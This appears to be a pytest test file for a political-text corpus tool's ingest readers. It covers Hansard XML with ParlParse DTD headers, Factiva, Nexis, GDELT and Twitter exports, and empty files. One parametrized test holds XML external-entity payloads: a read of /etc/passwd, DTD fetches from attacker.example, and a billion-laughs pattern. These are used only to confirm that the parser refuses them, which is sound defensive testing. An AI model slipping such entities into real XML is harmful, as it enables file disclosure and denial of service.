"""Real export shapes that were misread (issue 17): ParlParse's DTD header, Factiva's direct lead text, Nexis
two-line editions, GDELT 1.0 events, and the messages for empty and non-document files.

Every fixture is written here, by the test, in the shape of the real files (ParlParse ``xmlfilewrite.py``,
the LexisNexisTools sample export, the GDELT 1.0 and 2.0 codebooks); no third-party file is copied.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import POLICYPULSE
from policypulse.corpus.ingest import IngestReport, ingest
from policypulse.corpus.readers import detect
from policypulse.corpus.readers._util import MAX_ENTITY_CHARS, UnsafeXML, parse_xml
from policypulse.corpus.readers.nexis import parse_lines
from policypulse.corpus.store import Store

TODAY = dt.date(2025, 6, 1)

# -- helpers -------------------------------------------------------------------------------------------


def _ingest(tmp_path: Path, paths: list[Path], fmt: str = "auto") -> tuple[IngestReport, dict[str, dict]]:
    report = ingest(tmp_path / "store", paths, fmt=fmt, today=TODAY)
    docs = Store(tmp_path / "store").documents(columns=["doc_id", "date", "source", "title", "text", "meta"]).to_pylist()
    return report, {d["doc_id"]: dict(d, meta=json.loads(d["meta"]) if d["meta"] else {}) for d in docs}


def _reasons(report: IngestReport) -> list[tuple[int, str]]:
    return [(r.record, r.reason) for r in report.rejected]


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([POLICYPULSE, *args], capture_output=True, text=True, timeout=300)


def _cli_ingest(tmp_path: Path, *inputs: Path, fmt: str = "auto") -> tuple[dict, str]:
    """Ingest through the command line as a user would; the --report JSON and stderr."""
    report = tmp_path / "report.json"
    proc = _cli("ingest", str(tmp_path / "cli-store"), *map(str, inputs), "--format", fmt, "--report", str(report))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    return json.loads(report.read_text(encoding="utf-8")), proc.stderr


def _cli_track(tmp_path: Path, query: str) -> dict[str, int]:
    proc = _cli("track", str(tmp_path / "cli-store"), query, "--by", "year", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = [line.split(",") for line in proc.stdout.strip().splitlines()[1:]]
    return {r[1][:4]: int(r[2]) for r in rows if int(r[2])}


def _cli_kwic(tmp_path: Path, query: str) -> list[dict]:
    proc = _cli("kwic", str(tmp_path / "cli-store"), query, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


# -- Hansard: ParlParse's internal DTD subset ------------------------------------------------------------

# As pyscraper/xmlfilewrite.py writes it at the top of every debates file: character entities only.
PARLPARSE_HEADER = """<?xml version="1.0" encoding="UTF-8"?>


<!DOCTYPE publicwhip
[
<!ENTITY ndash   "&#8211;">
<!ENTITY mdash   "&#8212;">
<!ENTITY iexcl   "&#161;">
<!ENTITY divide  "&#247;">
<!ENTITY euro    "&#8364;">
<!ENTITY trade   "&#8482;">
<!ENTITY bull    "&#8226;">
<!ENTITY lsquo   "&#8216;">
<!ENTITY rsquo   "&#8217;">
<!ENTITY sbquo   "&#8218;">
<!ENTITY ldquo   "&#8220;">
<!ENTITY rdquo   "&#8221;">
<!ENTITY bdquo   "&#8222;">
<!ENTITY dagger  "&#8224;">

<!ENTITY Ouml   "&#214;" >
<!ENTITY szlig  "&#223;" >
<!ENTITY agrave "&#224;" >
<!ENTITY aacute "&#225;" >
<!ENTITY eacute "&#233;" >
<!ENTITY iuml\t"&#239;" >
<!ENTITY nbsp   "&#160;" >
<!ENTITY pound  "&#163;" >
<!ENTITY sect   "&#167;" >
<!ENTITY copy   "&#169;" >
<!ENTITY deg    "&#176;" >
<!ENTITY frac12 "&#189;" >
<!ENTITY oelig "&#339;" >
<!ENTITY aelig  "&#230;" >

]>

"""


def _sitting(day: str, letter: str, speeches: list[tuple[str, str, str]], latest: str = "yes",
             redirects: list[tuple[str, str]] = ()) -> str:
    """A ParlParse Commons debates file: DTD header, headings, speeches (id suffix, speaker, paragraph)."""
    out = [PARLPARSE_HEADER, f'<publicwhip scraperversion="{letter}" latest="{latest}">\n']
    for old, new in redirects:
        out.append(f'<gidredirect oldgid="uk.org.publicwhip/debate/{day}{letter}.{old}" '
                   f'newgid="uk.org.publicwhip/debate/{day}b.{new}" matchtype="perfectmatch"/>\n')
    out.append(f'<major-heading id="uk.org.publicwhip/debate/{day}{letter}.1.0" nospeaker="true" colnum="1" time="" '
               f'url="">Civil Society &ndash; Oral Statement</major-heading>\n')
    for gid, speaker, para in speeches:
        out.append(f'<speech id="uk.org.publicwhip/debate/{day}{letter}.{gid}" speakername="{speaker}" '
                   f'person_id="uk.org.publicwhip/person/10777" colnum="1" time="14:31:00" url="">\n'
                   f'<p pid="a{gid}/1">{para}</p>\n</speech>\n')
    out.append("</publicwhip>\n")
    return "".join(out)


def test_hansard_with_parlparse_dtd_header_reads_every_speech(tmp_path: Path) -> None:
    src = tmp_path / "debates2010-07-19a.xml"
    src.write_text(_sitting("2010-07-19", "a", [
        ("1.1", "David Cameron", "The big society &ndash; costs &pound;5&nbsp;million, a caf&eacute; na&iuml;ve "
                                 "&ldquo;idea&rdquo;."),
        ("1.2", "Ed Miliband", "The big society is a cover for cuts &mdash; &frac12; of charities agree."),
    ]), encoding="utf-8")
    assert detect(src) == "hansard"
    report, docs = _ingest(tmp_path, [src])
    assert report.accepted == 2 and report.rejected == []
    first = docs["uk.org.publicwhip/debate/2010-07-19a.1.1"]
    assert first["text"] == "The big society \u2013 costs \u00a35 million, a caf\u00e9 na\u00efve \u201cidea\u201d."
    assert first["title"] == "Civil Society \u2013 Oral Statement" and first["date"] == dt.date(2010, 7, 19)
    assert "\u2014 \u00bd of charities" in docs["uk.org.publicwhip/debate/2010-07-19a.1.2"]["text"]


def test_hansard_superseded_scrapes_still_refused_with_the_header(tmp_path: Path) -> None:
    """latest="no" handling is kept: the old scrape is refused whole, the newer one read, nothing counted twice."""
    folder = tmp_path / "debates"
    folder.mkdir()
    (folder / "debates2010-07-19a.xml").write_text(_sitting(
        "2010-07-19", "a", [("1.1", "David Cameron", "An early draft of the big society statement.")],
        latest="no", redirects=[("1.1", "21.2")]), encoding="utf-8")
    (folder / "debates2010-07-19b.xml").write_text(_sitting(
        "2010-07-19", "b", [("21.2", "David Cameron", "The big society statement, as delivered.")]), encoding="utf-8")
    report, docs = _ingest(tmp_path, [folder])
    assert list(docs) == ["uk.org.publicwhip/debate/2010-07-19b.21.2"]
    assert _reasons(report) == [(0, 'superseded scrape (latest="no"): the later version of this sitting is read '
                                    "instead, so no speech is counted twice (1 of its items redirected there by "
                                    "gidredirect)")]


def test_hansard_beside_a_later_scrape_that_lost_its_latest_flag(tmp_path: Path) -> None:
    """The sibling's latest= attribute sits after the DTD header: it must still be found."""
    (tmp_path / "debates2010-07-19a.xml").write_text(_sitting(
        "2010-07-19", "a", [("1.1", "David Cameron", "Draft text.")]), encoding="utf-8")
    (tmp_path / "debates2010-07-19b.xml").write_text(_sitting(
        "2010-07-19", "b", [("21.2", "David Cameron", "Final text.")]), encoding="utf-8")
    report, docs = _ingest(tmp_path, [tmp_path / "debates2010-07-19a.xml", tmp_path / "debates2010-07-19b.xml"])
    assert list(docs) == ["uk.org.publicwhip/debate/2010-07-19b.21.2"]
    assert _reasons(report) == [(0, "superseded scrape: debates2010-07-19b.xml beside it is a later scrape of the "
                                    "same sitting and is read instead, so no speech is counted twice")]


@pytest.mark.parametrize("subset, reason", [
    ('<!ENTITY xxe SYSTEM "file:///etc/passwd">',
     "refused: the XML declares the external entity &xxe; (file:///etc/passwd): external resources are never read"),
    ('<!ENTITY xxe PUBLIC "-//x//EN" "http://attacker.example/x.dtd">',
     "refused: the XML declares the external entity &xxe; (http://attacker.example/x.dtd): external resources are "
     "never read"),
    ('<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;',
     "refused: the XML declares the parameter entity %dtd; (DTD tricks are refused)"),
    ('<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
     "refused: the XML declares the entity &lol2; whose text holds markup or other entities (the shape of a "
     "'billion laughs' attack)"),
    ('<!ENTITY tag "<b>bold</b>">',
     "refused: the XML declares the entity &tag; whose text holds markup or other entities (the shape of a "
     "'billion laughs' attack)"),
    (f'<!ENTITY big "{"x" * (MAX_ENTITY_CHARS + 1)}">',
     f"refused: the XML declares the entity &big; of {MAX_ENTITY_CHARS + 1} characters (at most "
     f"{MAX_ENTITY_CHARS} are expanded)"),
])
def test_hansard_dangerous_entities_still_refused(tmp_path: Path, subset: str, reason: str) -> None:
    src = tmp_path / "debates2010-07-20a.xml"
    src.write_text(f'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [\n<!ENTITY ndash "&#8211;">\n{subset}\n]>\n'
                   '<publicwhip scraperversion="a" latest="yes">\n<speech id="uk.org.publicwhip/debate/2010-07-20a.1.1" '
                   'speakername="Troll" colnum="1"><p>big society &ndash; text</p></speech>\n</publicwhip>\n',
                   encoding="utf-8")
    report, docs = _ingest(tmp_path, [src])
    assert docs == {} and _reasons(report) == [(0, reason)]


def test_entity_values_that_are_character_references_to_markup_characters() -> None:
    """HTML's own entity set writes &amp; as "&#38;#38;": a character reference, expanded once, not markup."""
    root = parse_xml(b'<!DOCTYPE x [<!ENTITY amp2 "&#38;#38;"><!ENTITY lt2 "&#38;#60;">]><x>a &amp2; b &lt2; c</x>')
    assert root.text == "a & b < c"
    with pytest.raises(UnsafeXML):
        parse_xml(b'<!DOCTYPE x [<!ENTITY a "x"><!ENTITY b "&#38;a;">]><x>&b;</x>')


def test_hansard_end_to_end_through_the_cli(tmp_path: Path) -> None:
    src = tmp_path / "debates2011-02-14a.xml"
    src.write_text(_sitting("2011-02-14", "a", [
        ("1.1", "David Cameron", "The big society &ndash; it is my mission."),
        ("1.2", "Ed Miliband", "The &lsquo;big society&rsquo; is a slogan."),
        ("1.3", "Nick Clegg", "Localism matters."),
    ]), encoding="utf-8")
    report, stderr = _cli_ingest(tmp_path, src)
    assert (report["accepted"], report["duplicates"], report["rejected"]) == (3, 0, [])
    assert _cli_track(tmp_path, "big society") == {"2011": 2}
    lines = _cli_kwic(tmp_path, "big society")
    assert sorted(line["doc_id"] for line in lines) == ["uk.org.publicwhip/debate/2011-02-14a.1.1",
                                                         "uk.org.publicwhip/debate/2011-02-14a.1.2"]


# -- Factiva: lead paragraph text held directly -----------------------------------------------------------

FACTIVA = """<?xml version="1.0" encoding="utf-8"?>
<PPSResponse>
  <ppsArticleResponse xmlns="http://global.factiva.com/pps/2.0">
    <ppsarticleResultSet count="3">
      <ppsarticle><article>
        <accessionNo>GRDN000020110101e7110001a</accessionNo>
        <headline>Big society bank opens</headline>
        <leadParagraph>The big society bank opened its doors in London today.</leadParagraph>
        <publicationDate><date>2011-01-01</date></publicationDate>
        <sourceName>The Guardian</sourceName>
        <tailParagraphs>
          <paragraph>Charities welcomed the news.</paragraph>
        </tailParagraphs>
      </article></ppsarticle>
      <ppsarticle><article>
        <accessionNo>TIMES00020110102e7120002b</accessionNo>
        <headline><paragraph>Volunteers wanted</paragraph></headline>
        <leadParagraph>
          Councils ask for volunteers to run libraries under the big society.
        </leadParagraph>
        <publicationDate><date>2011-01-02</date></publicationDate>
        <sourceName>The Times</sourceName>
      </article></ppsarticle>
      <ppsarticle><article>
        <accessionNo>FT00000020110103e7130003c</accessionNo>
        <headline>Empty</headline>
        <leadParagraph>   </leadParagraph>
        <publicationDate><date>2011-01-03</date></publicationDate>
        <sourceName>Financial Times</sourceName>
      </article></ppsarticle>
    </ppsarticleResultSet>
  </ppsArticleResponse>
</PPSResponse>
"""


def test_factiva_lead_paragraph_with_direct_text(tmp_path: Path) -> None:
    src = tmp_path / "factiva-direct.xml"
    src.write_text(FACTIVA, encoding="utf-8")
    assert detect(src) == "factiva"
    report, docs = _ingest(tmp_path, [src])
    assert report.accepted == 2
    assert docs["GRDN000020110101e7110001a"]["text"] == ("The big society bank opened its doors in London today.\n\n"
                                                         "Charities welcomed the news.")
    assert docs["TIMES00020110102e7120002b"]["text"] == ("Councils ask for volunteers to run libraries under the "
                                                         "big society.")
    assert _reasons(report) == [(3, "article FT00000020110103e7130003c has no lead or tail paragraphs")]
    cli, _ = _cli_ingest(tmp_path, src)
    assert cli["accepted"] + cli["duplicates"] + len(cli["rejected"]) == 3
    assert _cli_track(tmp_path, "big society") == {"2011": 2}


# -- Nexis TXT: an edition over two lines ------------------------------------------------------------------

NEXIS_TXT = """\



Download Request: Selected Items: 1-2
Time Of Request: Friday, March 20, 2018  16:51:31

                               1 of 2 DOCUMENTS



                               The Sun (England)

                            January 11, 2010 Monday
                                   Edition 1;
                                    Scotland

Big society plans for Glasgow

BYLINE: TREVOR Kavanagh

SECTION: FEATURES; Pg. 6

LENGTH: 677 words


The big society comes to Scotland, ministers said.

LOAD-DATE: January 11, 2010

LANGUAGE: ENGLISH

PUBLICATION-TYPE: Newspaper

JOURNAL-CODE: SUN


                    Copyright 2010 NEWS GROUP NEWSPAPERS LTD
                              All Rights Reserved

                               2 of 2 DOCUMENTS



                               The Times (London)

                            January 12, 2010 Tuesday
                                  Final Edition

Councils and the big society

LENGTH: 453 words


Councils doubt the big society.

LOAD-DATE: January 12, 2010

LANGUAGE: ENGLISH
"""


def test_nexis_txt_two_line_edition_is_not_glued_to_the_headline(tmp_path: Path) -> None:
    src = tmp_path / "nexis.TXT"
    src.write_text(NEXIS_TXT, encoding="utf-8")
    assert detect(src) == "nexis"
    report, docs = _ingest(tmp_path, [src])
    assert report.accepted == 2 and report.rejected == []
    by_title = {d["title"]: d for d in docs.values()}
    assert set(by_title) == {"Big society plans for Glasgow", "Councils and the big society"}
    sun = by_title["Big society plans for Glasgow"]
    assert (sun["source"], sun["date"], sun["meta"]["edition"]) == ("The Sun (England)", dt.date(2010, 1, 11),
                                                                    "Edition 1; Scotland")
    assert by_title["Councils and the big society"]["meta"]["edition"] == "Final Edition"
    cli, _ = _cli_ingest(tmp_path, src)
    assert (cli["accepted"], cli["rejected"]) == (2, [])
    assert {line["title"] if "title" in line else None for line in _cli_kwic(tmp_path, "glasgow")} <= {
        "Big society plans for Glasgow", None}


def test_nexis_two_line_edition_without_layout() -> None:
    """A PDF's or RTF's lines have no indentation or blank lines: the ';' still carries the edition on."""
    lines = ["1 of 1 DOCUMENTS", "The Sun (England)", "January 11, 2010 Monday", "Edition 1;", "Scotland",
             "Big society plans for Glasgow", "LENGTH: 677 words", "The big society comes to Scotland."]
    (item,) = list(parse_lines("x.pdf", lines, "pdf"))
    assert item.data["title"] == "Big society plans for Glasgow"  # type: ignore[union-attr]
    assert item.meta["edition"] == "Edition 1; Scotland"  # type: ignore[union-attr]


# -- GDELT 1.0 events beside 2.0 ------------------------------------------------------------------------


def _event(version: str, gid: str, day: str, actor1: str, actor2: str, place: str, url: str = "") -> str:
    """One events row: 5 date columns, 10 per actor, 10 event columns, 7 (1.0) or 8 (2.0) per geo block,
    DATEADDED (a day in 1.0, a timestamp in 2.0) and SOURCEURL (not in the 1.0 backfile)."""
    actor = lambda code, name: [code, name, "GBR", "", "", "", "", "GOV", "", ""]  # noqa: E731
    cols = [gid, day, day[:6], day[:4], f"{day[:4]}.0411"] + actor("GBRGOV", actor1) + actor("GBRCVL", actor2)
    cols += ["1", "0251", "025", "02", "1", "3.5", "10", "2", "10", "-1.23"]
    geo = 8 if version == "2.0" else 7

    def block(name: str) -> list[str]:
        return ["4", name, "UK", "UKH8"] + (["1234"] if geo == 8 else []) + ["53.4", "-2.98", "-1234"]

    cols += block("") + block("") + block(place)
    cols += [day + "120000" if version == "2.0" else day]
    if version != "1.0 backfile":
        cols.append(url)
    return "\t".join(cols)


def test_gdelt_events_of_every_version(tmp_path: Path) -> None:
    backfile = tmp_path / "1985.csv"  # the historical backfile 1979-2005 (yearly), no SOURCEURL
    backfile.write_text("\n".join([
        _event("1.0 backfile", "11", "19850304", "MARGARET THATCHER", "MINER", "Yorkshire, United Kingdom"),
        _event("1.0 backfile", "12", "19850305", "NATIONAL COAL BOARD", "", "Barnsley, United Kingdom"),
    ]) + "\n", encoding="utf-8")
    daily = tmp_path / "20130615.export.CSV"  # GDELT 1.0 daily files from April 2013
    daily.write_text(_event("1.0", "21", "20130615", "DAVID CAMERON", "VOLUNTEER", "Liverpool, United Kingdom",
                            "https://www.example.co.uk/big-society") + "\n", encoding="utf-8")
    v2 = tmp_path / "20250510120000.export.CSV"
    v2.write_text("\n".join([
        _event("2.0", "31", "20250510", "KEIR STARMER", "CHARITY", "London, United Kingdom", "https://news.example.org/x"),
        _event("1.0", "32", "20250510", "DAMAGED ROW", "", "Leeds"),  # 58 columns inside a 2.0 file
    ]) + "\n", encoding="utf-8")
    for f in (backfile, daily, v2):
        assert detect(f) == "gdelt", f
    report, docs = _ingest(tmp_path, [backfile, daily, v2])
    assert report.accepted == 4
    assert _reasons(report) == [(2, "expected 61 tab-separated columns (GDELT 2.0 events, as the file's first "
                                    "event), found 58")]
    got = {k: (d["date"], d["source"], d["text"], d["meta"]["gdelt_version"]) for k, d in docs.items()}
    assert got == {
        "11": (dt.date(1985, 3, 4), "gdelt", "MARGARET THATCHER | MINER | Yorkshire, United Kingdom", "1.0 backfile"),
        "12": (dt.date(1985, 3, 5), "gdelt", "NATIONAL COAL BOARD | Barnsley, United Kingdom", "1.0 backfile"),
        "21": (dt.date(2013, 6, 15), "www.example.co.uk", "DAVID CAMERON | VOLUNTEER | Liverpool, United Kingdom",
               "1.0"),
        "31": (dt.date(2025, 5, 10), "news.example.org", "KEIR STARMER | CHARITY | London, United Kingdom", "2.0"),
    }
    assert docs["21"]["meta"]["date_added"] == "20130615" and docs["31"]["meta"]["date_added"] == "20250510120000"
    cli, _ = _cli_ingest(tmp_path, backfile, daily, v2)
    assert (cli["accepted"], len(cli["rejected"])) == (4, 1)
    assert _cli_track(tmp_path, "united kingdom") == {"1985": 2, "2013": 1, "2025": 1}


def test_gdelt_rows_of_no_known_layout(tmp_path: Path) -> None:
    src = tmp_path / "odd.export.CSV"
    src.write_text(_event("1.0", "1", "20130615", "A", "B", "C") + "\tEXTRA\n", encoding="utf-8")
    report, docs = _ingest(tmp_path, [src], fmt="gdelt")
    assert docs == {} and _reasons(report) == [
        (1, "expected 61 tab-separated columns (GDELT 2.0 events), 58 (GDELT 1.0 daily events) or 57 (GDELT 1.0 "
            "backfile 1979-2013), found 59")]


@pytest.mark.parametrize("name, header", [
    ("20140115.gkg.csv", "DATE\tNUMARTS\tCOUNTS\tTHEMES\tLOCATIONS\tPERSONS\tORGANIZATIONS\tTONE\tCAMEOEVENTIDS\tSOURCES"
                         "\tSOURCEURLS"),
    ("20140115.gkgcounts.csv", "DATE\tNUMARTS\tCOUNTTYPE\tNUMBER\tOBJECTTYPE\tGEO_TYPE\tGEO_FULLNAME\tGEO_COUNTRYCODE"
                               "\tGEO_ADM1CODE\tGEO_LAT\tGEO_LONG\tGEO_FEATUREID\tCAMEOEVENTIDS\tSOURCES\tSOURCEURLS"),
])
def test_gdelt_1_gkg_is_refused_with_the_reason(tmp_path: Path, name: str, header: str) -> None:
    """GKG 1.0 rows aggregate NUMARTS articles: one row is not one document."""
    src = tmp_path / name
    row = "20140115\t12\t\tTAX_FNCACT;LEADER\t\tdavid cameron;nick clegg\tconservative party\t-2.1\t\tbbc.co.uk\t"
    src.write_text(header + "\n" + row + "\n", encoding="utf-8")
    assert detect(src) == "gdelt"
    report, docs = _ingest(tmp_path, [src])
    assert docs == {} and report.version == 0
    assert _reasons(report) == [(0, "a GDELT 1.0 Global Knowledge Graph file: each row is a set of names and themes "
                                    "shared by NUMARTS articles of a day, not an article, so it cannot be counted as "
                                    "documents; use GKG 2.1 files (one row per article) or the Events files")]


# -- clear messages for empty and non-document files --------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _docx(paragraphs: list[str]) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        z.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                   f'<w:document xmlns:w="{W}"><w:body>{body}<w:sectPr/></w:body></w:document>')
    return buf.getvalue()


def test_empty_nexis_docx_says_it_is_empty(tmp_path: Path) -> None:
    empty = tmp_path / "Files (0).DOCX"
    empty.write_bytes(_docx([]))
    blank = tmp_path / "blank.docx"
    blank.write_bytes(_docx(["", "  "]))
    report, docs = _ingest(tmp_path, [empty, blank])
    assert docs == {} and report.version == 0
    assert _reasons(report) == [(0, "the Word document (DOCX) is empty: it holds no text, so no articles to read")] * 2


V11_USERS = [{"id": 783214, "id_str": "783214", "name": "X", "screen_name": "X", "location": "everywhere",
              "description": "", "followers_count": 64000000, "friends_count": 0, "statuses_count": 15000,
              "created_at": "Tue Feb 20 14:35:54 +0000 2007",
              "status": {"id_str": "1", "text": "not ours to count", "created_at": "Wed Oct 10 20:19:24 +0000 2018"}},
             {"id": 6253282, "id_str": "6253282", "name": "X API", "screen_name": "XAPI", "followers_count": 6000000,
              "friends_count": 12, "created_at": "Wed May 23 06:01:13 +0000 2007"}]
V2_USERS = {"data": [{"id": "2244994945", "name": "X Dev", "username": "XDevelopers",
                      "created_at": "2013-12-14T04:35:55.000Z", "public_metrics": {"followers_count": 570000}}],
            "includes": {"tweets": [{"id": "1", "text": "pinned"}]}}


@pytest.mark.parametrize("name, body, records", [
    ("users_lookup.json", json.dumps(V11_USERS, indent=2), ["X", "XAPI"]),
    ("users_lookup_compact.json", json.dumps(V11_USERS), ["X", "XAPI"]),
    ("users.jsonl", json.dumps(V2_USERS) + "\n", ["XDevelopers"]),
    ("users_pretty.json", json.dumps(V2_USERS, indent=2), ["XDevelopers"]),
    ("users_flat.jsonl", "\n".join(json.dumps(u | {"__twarc": {"retrieved_at": "2025-01-01T00:00:00Z"}})
                                   for u in V2_USERS["data"]) + "\n", ["XDevelopers"]),
])
def test_twitter_users_lookup_says_it_holds_users(tmp_path: Path, name: str, body: str, records: list[str]) -> None:
    src = tmp_path / name
    src.write_text(body, encoding="utf-8")
    assert detect(src) == "twitter"
    report, docs = _ingest(tmp_path, [src])
    assert docs == {} and report.version == 0  # nothing to add: no empty version either
    assert _reasons(report) == [
        (n, f"user @{handle} is a user record, not a tweet: this file holds user profiles (a users lookup), which "
            "have no text to count; ingest the users' tweets instead") for n, handle in enumerate(records, 1)]


@pytest.mark.parametrize("name, body, fmt, reason", [
    ("empty.jsonl", b"", "auto", "the file is empty (0 bytes): no records to read"),
    ("empty.jsonl", b"", "jsonl", "the file is empty (0 bytes): no records to read"),
    ("blank.jsonl", b"\n\n  \n", "auto", "the file is empty (only whitespace in 5 bytes): no records to read"),
    ("bom.csv", b"\xef\xbb\xbf\r\n", "csv", "the file is empty (only whitespace in 5 bytes): no records to read"),
    ("empty.xml", b"", "hansard", "the file is empty (0 bytes): no records to read"),
])
def test_empty_inputs_say_so_and_make_no_version(tmp_path: Path, name: str, body: bytes, fmt: str,
                                                  reason: str) -> None:
    src = tmp_path / name
    src.write_bytes(body)
    report, docs = _ingest(tmp_path, [src], fmt=fmt)
    assert docs == {} and _reasons(report) == [(0, reason)]
    assert report.version == 0 and Store(tmp_path / "store").version == 0


def test_no_new_version_from_an_input_without_documents(tmp_path: Path) -> None:
    docs = tmp_path / "docs.jsonl"
    docs.write_text(json.dumps({"id": "a", "date": "2011-01-01", "text": "big society"}) + "\n", encoding="utf-8")
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"text": "no date"}\n', encoding="utf-8")
    first, _ = _cli_ingest(tmp_path, docs)
    assert first["version"] == 1
    for nothing in (empty, bad):  # an empty input, then one whose every record is rejected
        report, stderr = _cli_ingest(tmp_path, nothing)
        assert (report["version"], report["accepted"], report["duplicates"], len(report["rejected"])) == (1, 0, 0, 1)
        assert stderr.endswith(f"no documents to ingest (1 rejected): {tmp_path / 'cli-store'} stays at version 1, "
                               "no new version written\n"), stderr
    assert Store(tmp_path / "cli-store").version == 1
    again, _ = _cli_ingest(tmp_path, docs)  # documents all stored already: still a version (DESIGN.md)
    assert (again["version"], again["duplicates"]) == (2, 1)
    assert _cli_track(tmp_path, "big society") == {"2011": 1}
